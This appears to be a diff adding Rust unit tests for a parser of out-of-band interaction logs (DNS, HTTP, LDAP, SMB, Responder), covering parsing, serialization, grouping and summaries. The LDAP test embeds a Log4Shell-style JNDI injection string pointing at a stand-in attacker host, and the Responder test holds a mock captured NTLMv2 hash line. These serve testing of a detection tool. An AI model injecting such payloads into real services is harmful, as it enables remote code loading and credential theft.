+            DnsQType::HTTPS,
+            DnsQType::CAA,
+            DnsQType::Unknown("TYPE65534".into()),
+        ];
+
+        for q_type in q_types {
+            let parsed_q_type = q_type
+                .to_string()
+                .parse::<DnsQType>()
+                .expect("DnsQType parsing is infallible");
+
+            assert_eq!(parsed_q_type, q_type);
+        }
+        assert_eq!("https".parse::<DnsQType>(), Ok(DnsQType::HTTPS));
+    }
+
+    #[test]
+    fn dns_log_keeps_new_and_unknown_q_types() {
+        for (q_type, expected_q_type) in [
+            ("SRV", DnsQType::SRV),
+            ("TYPE65534", DnsQType::Unknown("TYPE65534".into())),
+        ] {
+            let json_log = json!({
+                "protocol": "dns",
+                "unique-id": get_random_id(),
+                "full-id": get_random_id(),
+                "q-type": q_type,
+                "raw-request": get_paragraph(),
+                "raw-response": get_paragraph(),
+                "remote-address": get_ip_address(),
+                "timestamp": get_timestamp()
+            });
+
+            match try_parse_json(json_log) {
+                LogEntry::ParsedLog(ParsedLogEntry::Dns {
+                    q_type: parsed_q_type,
+                    ..
+                }) => assert_eq!(parsed_q_type, Some(expected_q_type)),
+                _ => panic!("DNS log did not parse to DNS variant"),
+            }
+        }
+    }
+
     #[test]
     fn log_entry_successfully_parses_valid_http_log() {
         let random_id = get_random_id();
@@ -358,6 +1168,154 @@ mod tests {
         }
     }
 
+    #[test]
+    fn log_entry_successfully_parses_valid_responder_log() {
+        let timestamp = get_timestamp();
+        let remote_address = get_ip_address();
+        let raw_request = "[SMB] NTLMv2-SSP Client   : 10.0.0.5\n\
+                           [SMB] NTLMv2-SSP Username : CORP\\jdoe\n\
+                           [SMB] NTLMv2-SSP Hash     : jdoe::CORP:1122334455667788:abcdef";
+
+        let json_log = json!({
+            "protocol": "responder",
+            "raw-request": raw_request,
+            "remote-address": remote_address,
+            "timestamp": timestamp
+        });
+
+        let log_parse_result = try_parse_json(json_log);
+
+        match log_parse_result {
+            LogEntry::ParsedLog(parsed_log) => {
+                match &parsed_log {
+                    ParsedLogEntry::Responder { .. } => {}
+                    _ => panic!("Responder log did not parse to Responder variant"),
+                }
+                assert_eq!(parsed_log.protocol(), "responder");
+                assert_eq!(parsed_log.log_protocol(), LogProtocol::Responder);
+                assert_eq!(parsed_log.raw_request(), raw_request);
+            }
+            LogEntry::RawLog(_) => panic!("Responder log did not parse at all"),
+        }
+    }
+
+    #[test]
+    fn log_entry_parses_unknown_protocol_to_other_variant() {
+        let remote_address = get_ip_address();
+        let raw_request = get_paragraph();
+
+        let json_log = json!({
+            "protocol": "websocket",
+            "raw-request": raw_request,
+            "remote-address": remote_address,
+            "timestamp": "2023-01-01T00:00:00Z",
+            "extra": { "nested": [1, 2, 3] }
+        });
+
+        let parsed_log = match try_parse_json(json_log) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("Unknown protocol log did not parse at all"),
+        };
+
+        match &parsed_log {
+            ParsedLogEntry::Other { protocol, fields } => {
+                assert_eq!(protocol, "websocket");
+                assert_eq!(fields["extra"]["nested"], json!([1, 2, 3]));
+                assert!(fields.get("protocol").is_none());
+            }
+            _ => panic!("Unknown protocol log did not parse to Other variant"),
+        }
+        assert_eq!(
+            parsed_log.log_protocol(),
+            LogProtocol::Other("websocket".into())
+        );
+        assert_eq!(parsed_log.raw_request(), raw_request);
+        assert_eq!(parsed_log.remote_address(), remote_address.parse().ok());
+        assert_eq!(
+            parsed_log.timestamp(),
+            OffsetDateTime::parse("2023-01-01T00:00:00Z", &Rfc3339).unwrap()
+        );
+    }
+
+    #[test]
+    fn parse_log_entry_respects_parse_logs() {
+        let json_log = json!({
+            "protocol": "smb",
+            "raw-request": get_paragraph(),
+            "timestamp": get_timestamp()
+        })
+        .to_string();
+
+        match parse_log_entry(&json_log, true) {
+            LogEntry::ParsedLog(ParsedLogEntry::Smb { .. }) => {}
+            _ => panic!("SMB log did not parse to SMB variant"),
+        }
+        match parse_log_entry(&json_log, false) {
+            LogEntry::RawLog(raw_log) => assert_eq!(raw_log.log_entry, json_log),
+            LogEntry::ParsedLog(_) => panic!("Expected raw log, got a parsed log"),
+        }
+    }
+
+    #[test]
+    fn log_entry_returns_raw_log_for_non_json_data() {
+        match LogEntry::try_parse_log("not a json log") {
+            LogEntry::ParsedLog(_) => panic!("Expected raw log, got a parsed log"),
+            LogEntry::RawLog(_) => {}
+        }
+    }
+
+    #[test]
+    fn ldap_request_is_parsed_from_raw_request() {
+        let raw_request = "Type=Bind\nName=cn=admin,dc=example,dc=com\nAuthentication\n\
+                           BaseDn=\nType=Search\nBaseDn=dc=example,dc=com\n\
+                           Filter=(uid=${jndi:ldap://attacker})";
+
+        let json_log = json!({
+            "protocol": "ldap",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": raw_request,
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        });
+
+        let parsed_log = match try_parse_json(json_log) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("LDAP log did not parse at all"),
+        };
+        let ldap_request = parsed_log
+            .ldap_request()
+            .expect("LDAP log did not return an LDAP request");
+
+        assert_eq!(ldap_request.operation.as_deref(), Some("Bind"));
+        assert_eq!(
+            ldap_request.bind_dn.as_deref(),
+            Some("cn=admin,dc=example,dc=com")
+        );
+        assert_eq!(ldap_request.base_dn.as_deref(), Some("dc=example,dc=com"));
+        assert_eq!(
+            ldap_request.filter.as_deref(),
+            Some("(uid=${jndi:ldap://attacker})")
+        );
+    }
+
+    #[test]
+    fn ldap_request_is_none_for_other_protocols() {
+        let json_log = json!({
+            "protocol": "smb",
+            "raw-request": "Type=Bind",
+            "timestamp": get_timestamp()
+        });
+
+        let parsed_log = match try_parse_json(json_log) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("SMB log did not parse at all"),
+        };
+
+        assert!(parsed_log.ldap_request().is_none());
+    }
+
     #[test]
     fn log_entry_successfully_parses_valid_smb_log() {
         let timestamp = get_timestamp();
@@ -413,6 +1371,465 @@ mod tests {
         }
     }
 
+    fn assert_log_round_trips(json_log: Value) {
+        let parsed_log = match try_parse_json(json_log.clone()) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("Log did not parse at all"),
+        };
+
+        let serialized_log =
+            serde_json::to_value(&parsed_log).expect("Unable to serialize the parsed log");
+
+        assert_eq!(serialized_log, json_log);
+    }
+
+    #[test]
+    fn dns_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "dns",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "q-type": get_random_dns_q_type(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+        assert_log_round_trips(json!({
+            "protocol": "dns",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn ftp_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "ftp",
+            "raw-request": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn http_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "http",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn ldap_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "ldap",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn responder_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "responder",
+            "raw-request": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn unknown_protocol_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "websocket",
+            "raw-request": get_paragraph(),
+            "timestamp": get_timestamp(),
+            "extra": { "nested": [1, 2, 3] }
+        }));
+    }
+
+    #[test]
+    fn smb_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "smb",
+            "raw-request": get_paragraph(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn smtp_log_round_trips_through_serialize() {
+        assert_log_round_trips(json!({
+            "protocol": "smtp",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "smtp-from": get_email_address(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        }));
+    }
+
+    #[test]
+    fn accessors_return_common_fields() {
+        let full_id = get_random_id();
+        let remote_address = get_ip_address();
+        let raw_request = get_paragraph();
+        let timestamp = "2023-01-01T00:00:00Z";
+
+        let parsed_log = match try_parse_json(json!({
+            "protocol": "http",
+            "unique-id": full_id,
+            "full-id": full_id,
+            "raw-request": raw_request,
+            "raw-response": get_paragraph(),
+            "remote-address": remote_address,
+            "timestamp": timestamp
+        })) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("HTTP log did not parse at all"),
+        };
+
+        assert_eq!(parsed_log.protocol(), "http");
+        assert_eq!(parsed_log.protocol(), parsed_log.log_protocol().as_tag());
+        assert_eq!(
+            parsed_log.timestamp(),
+            OffsetDateTime::parse(timestamp, &Rfc3339).unwrap()
+        );
+        assert_eq!(parsed_log.remote_address(), remote_address.parse().ok());
+        assert_eq!(parsed_log.full_id(), Some(full_id.as_str()));
+        assert_eq!(parsed_log.raw_request(), raw_request);
+    }
+
+    #[test]
+    fn payload_label_is_extracted_from_full_id() {
+        let subdomain = get_random_id();
+        let http_log = |full_id: &str| match try_parse_json(json!({
+            "protocol": "http",
+            "unique-id": subdomain,
+            "full-id": full_id,
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        })) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("HTTP log did not parse at all"),
+        };
+
+        let labeled_log = http_log(&format!("x.Test1.{}", subdomain));
+        let unlabeled_log = http_log(&subdomain);
+
+        assert_eq!(
+            labeled_log.extract_label(&subdomain),
+            Some("test1".to_string())
+        );
+        assert_eq!(unlabeled_log.extract_label(&subdomain), None);
+        assert_eq!(labeled_log.extract_label("other"), None);
+    }
+
+    #[test]
+    fn accessors_return_none_for_missing_fields() {
+        let parsed_log = match try_parse_json(json!({
+            "protocol": "smb",
+            "raw-request": get_paragraph(),
+            "timestamp": get_timestamp()
+        })) {
+            LogEntry::ParsedLog(parsed_log) => parsed_log,
+            LogEntry::RawLog(_) => panic!("SMB log did not parse at all"),
+        };
+
+        assert_eq!(parsed_log.protocol(), "smb");
+        assert!(parsed_log.remote_address().is_none());
+        assert!(parsed_log.full_id().is_none());
+    }
+
+    #[test]
+    fn copies_of_a_log_are_the_same_interaction() {
+        let http_log = json!({
+            "protocol": "http",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        });
+        let mut later_poll_log = http_log.clone();
+        later_poll_log["timestamp"] = json!("2000-01-01T00:00:00Z");
+
+        let log_entry = try_parse_json(http_log.clone());
+
+        assert!(log_entry.same_interaction(&try_parse_json(later_poll_log)));
+        assert!(get_raw_log(http_log.clone()).same_interaction(&get_raw_log(http_log)));
+    }
+
+    #[test]
+    fn different_logs_are_not_the_same_interaction() {
+        let http_log = json!({
+            "protocol": "http",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        });
+        let mut other_http_log = http_log.clone();
+        other_http_log["unique-id"] = json!(get_random_id());
+
+        let log_entry = try_parse_json(http_log.clone());
+
+        assert!(!log_entry.same_interaction(&try_parse_json(other_http_log)));
+        assert!(!log_entry.same_interaction(&get_raw_log(http_log)));
+    }
+
+    #[test]
+    fn log_protocol_round_trips_through_display_and_from_str() {
+        let protocols = [
+            LogProtocol::Dns,
+            LogProtocol::Http,
+            LogProtocol::Ftp,
+            LogProtocol::Smtp,
+            LogProtocol::Ldap,
+            LogProtocol::Smb,
+            LogProtocol::Responder,
+            LogProtocol::Other("websocket".into()),
+        ];
+
+        for protocol in protocols {
+            let parsed_protocol = protocol
+                .to_string()
+                .parse::<LogProtocol>()
+                .expect("LogProtocol parsing is infallible");
+
+            assert_eq!(parsed_protocol, protocol);
+        }
+    }
+
+    #[test]
+    fn log_protocol_parses_server_tags_case_insensitively() {
+        let parsed_protocol = "HTTP"
+            .parse::<LogProtocol>()
+            .expect("LogProtocol parsing is infallible");
+
+        assert_eq!(parsed_protocol, LogProtocol::Http);
+        assert_eq!(parsed_protocol.as_tag(), "http");
+    }
+
+    #[test]
+    fn logs_are_grouped_by_protocol() {
+        let http_log = json!({
+            "protocol": "http",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": get_ip_address(),
+            "timestamp": get_timestamp()
+        });
+        let smb_log = json!({
+            "protocol": "smb",
+            "raw-request": get_paragraph(),
+            "timestamp": get_timestamp()
+        });
+
+        let logs = vec![
+            try_parse_json(http_log.clone()),
+            try_parse_json(smb_log),
+            get_raw_log(http_log.clone()),
+            try_parse_json(http_log),
+        ];
+
+        let grouped_logs = group_by_protocol(logs);
+
+        assert_eq!(grouped_logs.len(), 3);
+        assert_eq!(grouped_logs[&LogProtocol::Http].len(), 2);
+        assert_eq!(grouped_logs[&LogProtocol::Smb].len(), 1);
+        assert_eq!(grouped_logs[&LogProtocol::Other("raw".into())].len(), 1);
+    }
+
+    #[test]
+    fn logs_are_grouped_by_timestamp_in_order() {
+        let smb_log = |timestamp: &str| {
+            json!({
+                "protocol": "smb",
+                "raw-request": get_paragraph(),
+                "timestamp": timestamp
+            })
+        };
+        let earlier_timestamp = "2023-01-01T00:00:00Z";
+        let later_timestamp = "2023-01-01T00:00:05Z";
+
+        let logs = vec![
+            try_parse_json(smb_log(later_timestamp)),
+            try_parse_json(smb_log(earlier_timestamp)),
+            get_raw_log(smb_log(earlier_timestamp)),
+            try_parse_json(smb_log(later_timestamp)),
+        ];
+
+        let timeline = group_by_timestamp(logs);
+
+        let timestamps: Vec<OffsetDateTime> = timeline.keys().copied().collect();
+        assert_eq!(
+            timestamps,
+            vec![
+                OffsetDateTime::parse(earlier_timestamp, &Rfc3339).unwrap(),
+                OffsetDateTime::parse(later_timestamp, &Rfc3339).unwrap(),
+            ]
+        );
+        assert_eq!(timeline[&timestamps[0]].len(), 1);
+        assert_eq!(timeline[&timestamps[1]].len(), 2);
+    }
+
+    #[test]
+    fn logs_are_sorted_by_timestamp_with_raw_logs_last() {
+        let smb_log = |raw_request: &str, timestamp: &str| {
+            json!({
+                "protocol": "smb",
+                "raw-request": raw_request,
+                "timestamp": timestamp
+            })
+        };
+
+        let mut logs = vec![
+            LogEntry::return_raw_log("first raw"),
+            try_parse_json(smb_log("later", "2023-01-01T00:00:05Z")),
+            try_parse_json(smb_log("earlier", "2023-01-01T00:00:00Z")),
+            LogEntry::return_raw_log("second raw"),
+            try_parse_json(smb_log("later again", "2023-01-01T00:00:05Z")),
+        ];
+
+        sort_by_timestamp(&mut logs);
+
+        let sorted_logs: Vec<&str> = logs
+            .iter()
+            .map(|log_entry| match log_entry {
+                LogEntry::ParsedLog(parsed_log) => parsed_log.raw_request(),
+                LogEntry::RawLog(raw_log) => raw_log.log_entry.as_str(),
+            })
+            .collect();
+        assert_eq!(
+            sorted_logs,
+            vec!["earlier", "later", "later again", "first raw", "second raw"]
+        );
+    }
+
+    #[test]
+    fn logs_are_serialized_as_ndjson() {
+        let smb_log = json!({
+            "protocol": "smb",
+            "raw-request": "request\nwith newline",
+            "timestamp": "2023-01-01T00:00:00Z"
+        });
+
+        let logs = vec![
+            try_parse_json(smb_log.clone()),
+            LogEntry::return_raw_log("raw\nlog"),
+        ];
+
+        let ndjson = to_ndjson(&logs);
+
+        assert!(ndjson.ends_with('\n'));
+        let lines: Vec<Value> = ndjson
+            .lines()
+            .map(|line| serde_json::from_str(line).expect("Line is not valid JSON"))
+            .collect();
+        assert_eq!(lines.len(), 2);
+        assert_eq!(lines[0]["protocol"], "smb");
+        assert_eq!(lines[0]["raw-request"], smb_log["raw-request"]);
+        assert_eq!(lines[1], json!({ "raw": "raw\nlog" }));
+    }
+
+    #[test]
+    fn mixed_logs_are_summarized() {
+        let http_log = json!({
+            "protocol": "http",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": "192.0.2.1",
+            "timestamp": "2023-01-01T00:00:05Z"
+        });
+        let dns_log = json!({
+            "protocol": "dns",
+            "unique-id": get_random_id(),
+            "full-id": get_random_id(),
+            "q-type": "A",
+            "raw-request": get_paragraph(),
+            "raw-response": get_paragraph(),
+            "remote-address": "192.0.2.2",
+            "timestamp": "2023-01-01T00:00:00Z"
+        });
+        let smb_log = json!({
+            "protocol": "smb",
+            "raw-request": get_paragraph(),
+            "timestamp": "2023-01-01T00:00:10Z"
+        });
+        let responder_log = json!({
+            "protocol": "responder",
+            "raw-request": get_paragraph(),
+            "remote-address": "192.0.2.1",
+            "timestamp": "2023-01-01T00:00:03Z"
+        });
+
+        let logs = vec![
+            try_parse_json(http_log.clone()),
+            try_parse_json(dns_log),
+            try_parse_json(smb_log),
+            try_parse_json(responder_log),
+            try_parse_json(http_log.clone()),
+            get_raw_log(http_log),
+        ];
+
+        let summary = summarize(&logs);
+
+        assert_eq!(summary.http, 2);
+        assert_eq!(summary.dns, 1);
+        assert_eq!(summary.smb, 1);
+        assert_eq!(summary.responder, 1);
+        assert_eq!(summary.raw, 1);
+        assert_eq!(summary.ftp + summary.smtp + summary.ldap + summary.other, 0);
+        assert_eq!(summary.total(), logs.len());
+        assert_eq!(
+            summary.earliest,
+            Some(OffsetDateTime::parse("2023-01-01T00:00:00Z", &Rfc3339).unwrap())
+        );
+        assert_eq!(
+            summary.latest,
+            Some(OffsetDateTime::parse("2023-01-01T00:00:10Z", &Rfc3339).unwrap())
+        );
+        let remote_addresses: Vec<String> = summary
+            .remote_addresses
+            .iter()
+            .map(ToString::to_string)
+            .collect();
+        assert_eq!(remote_addresses, vec!["192.0.2.1", "192.0.2.2"]);
+    }
+
+    #[test]
+    fn empty_logs_are_summarized() {
+        let summary = summarize(&[]);
+
+        assert_eq!(summary, LogSummary::default());
+        assert_eq!(summary.total(), 0);
+    }
+
     #[test]
     fn log_entry_returns_raw_log_for_invalid_log() {
         let random_id = get_random_id();